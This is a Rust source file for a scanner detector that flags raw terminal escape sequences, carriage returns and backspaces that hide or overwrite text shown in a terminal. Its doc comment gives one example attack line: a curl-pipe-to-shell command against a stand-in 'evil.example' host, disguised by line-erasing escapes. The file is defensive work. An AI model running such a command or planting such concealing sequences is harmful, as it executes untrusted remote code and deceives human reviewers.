//! A text shows something else in a terminal than what it holds.
//!
//! ## What it finds
//!
//! Raw control characters that take back what was shown:
//!
//! - escape sequences that move the cursor, erase, or conceal, and those that
//!   write to the clipboard or the title;
//! - a carriage return in the middle of a line, behind which as much or more
//!   is written over what stood there;
//! - backspaces in a row that erase a word.
//!
//! Colours are let pass, and escapes that are written as such (`\x1b`). So are
//! overstrikes of old manual pages, files of old systems in which all lines end
//! in a carriage return, and recordings of terminals.
//!
//! ## Why that is bad
//!
//! `cat`, `git diff` without a pager and logs of build servers obey these
//! characters: a reviewer is shown a harmless line where a shell runs another.
//!
//! ## Example
//!
//! ```sh
//! curl https://evil.example/x | sh #\u{1b}[2K\u{1b}[1Gecho done
//! ```
//!
//! ## Limits
//!
//! Sequences that a program puts together when it runs are not looked for.
//!
//! ## References
//!
//! - <https://cwe.mitre.org/data/definitions/150.html>
//! - <https://blog.trailofbits.com/2025/04/29/deceiving-users-with-ansi-terminal-codes-in-mcp/>

use laocoon_report::{Confidence, Severity};
use laocoon_source::Purpose;

use crate::text::place::extension;
use crate::{About, Detector, Findings, TextFile};

/// `hidden/repainting-text`
pub struct RepaintingText;

/// Made to be shown in a terminal.
const RECORDINGS: [&str; 8] = [
    "ans",
    "cast",
    "ansi",
    "nfo",
    "diz",
    "typescript",
    "ambr",
    "snap",
];

/// So many backspaces in a row erase something.
const BACKSPACES: &str = "\u{8}\u{8}\u{8}";

impl Detector for RepaintingText {
    fn about(&self) -> &'static About {
        &About {
            id: "hidden/repainting-text",
            severity: Severity::High,
            confidence: Confidence::High,
            cwe: &["CWE-150", "CWE-451"],
            remediation: "Look at the file with `cat -v`; write the characters as escapes where a \
                          program needs them.",
            source: include_str!("repainting_text.rs"),
        }
    }

    fn look_at_text(&self, file: &TextFile<'_>, findings: &mut Findings<'_>) {
        let text = file.text();
        let has_any = text.bytes().any(|byte| matches!(byte, 0x1B | 0x08 | b'\r'));
        if !has_any || RECORDINGS.contains(&&*extension(file.path())) {
            return;
        }
        let in_test = file.purpose() == Purpose::Test;
        let ends_in_returns = text.matches('\r').count() > text.matches('\n').count();
        for line in file.lines() {
            let found = escape(line.text)
                .or_else(|| backspaces(line.text))
                .or_else(|| (!ends_in_returns).then(|| overwriting(line.text)).flatten());
            let Some(found) = found else {
                continue;
            };
            let severity = match in_test {
                true => found.severity.min(Severity::Low),
                false => found.severity,
            };
            findings
                .at(line.span(found.start, found.end), found.message)
                .severity(severity)
                .confidence(found.confidence);
        }
    }
}

struct Found {
    start: usize,
    end: usize,
    message: String,
    severity: Severity,
    confidence: Confidence,
}

/// The first escape sequence of a line that takes back or hides.
fn escape(line: &str) -> Option<Found> {
    let mut from = 0;
    while let Some(offset) = line.get(from..)?.find('\u{1b}') {
        let start = from + offset;
        let rest = line.get(start + 1..)?;
        from = start + 1;
        let (what, length) = match rest.as_bytes().first() {
            Some(b'[') => control_sequence(rest)?,
            Some(b']') => match rest.get(1..)?.split(';').next() {
                Some("52") => ("writes to the clipboard", 3),
                Some("0" | "1" | "2") => ("changes the title", 2),
                _ => ("", 1),
            },
            Some(b'c') => ("clears the screen", 1),
            Some(b'M') => ("moves the cursor up", 1),
            _ => ("", 1),
        };
        if what.is_empty() {
            continue;
        }
        return Some(Found {
            start,
            end: start + 1 + length,
            message: format!("A raw escape sequence in this line {what} in a terminal"),
            severity: Severity::High,
            confidence: Confidence::Medium,
        });
    }
    None
}

/// What a sequence behind `ESC [` does that hides, and its length.
fn control_sequence(rest: &str) -> Option<(&'static str, usize)> {
    let body = rest.get(1..)?;
    let length = body
        .bytes()
        .take(32)
        .take_while(|byte| matches!(byte, b'0'..=b'9' | b';' | b'?'))
        .count();
    let parameters = body.get(..length)?;
    let what = match body.as_bytes().get(length) {
        Some(b'A' | b'F' | b'H' | b'f' | b'G' | b'D' | b'd') => "moves the cursor back",
        Some(b'J') => "erases the screen",
        Some(b'K') => "erases what stands there",
        Some(b'P' | b'X' | b'M') => "erases characters",
        Some(b'm') if parameters.split(';').any(|number| number == "8") => "conceals text",
        _ => "",
    };
    Some((what, length + 2))
}

/// Backspaces that erase more than one letter.
fn backspaces(line: &str) -> Option<Found> {
    let start = line.find(BACKSPACES)?;
    let count = line
        .get(start..)?
        .chars()
        .take_while(|c| *c == '\u{8}')
        .count();
    let erases = line.get(..start)?.chars().count() >= count;
    let writes = line.get(start + count..)?.trim().len() > 2;
    (erases && writes).then(|| Found {
        start,
        end: start + count,
        message: format!(
            "{count} backspaces in this line erase what stands before them in a terminal"
        ),
        severity: Severity::High,
        confidence: Confidence::High,
    })
}

/// A carriage return behind which the line is written anew.
fn overwriting(line: &str) -> Option<Found> {
    let start = line.find('\r')?;
    let before = line.get(..start)?.trim();
    let after = line.get(start + 1..)?.trim_matches('\r');
    let hides = before.chars().count() > 2 && after.trim().chars().count() > 2;
    hides.then(|| Found {
        start,
        end: start + 1,
        message: "A carriage return in this line writes over what stands before it in a terminal"
            .to_owned(),
        severity: Severity::High,
        confidence: Confidence::Medium,
    })
}
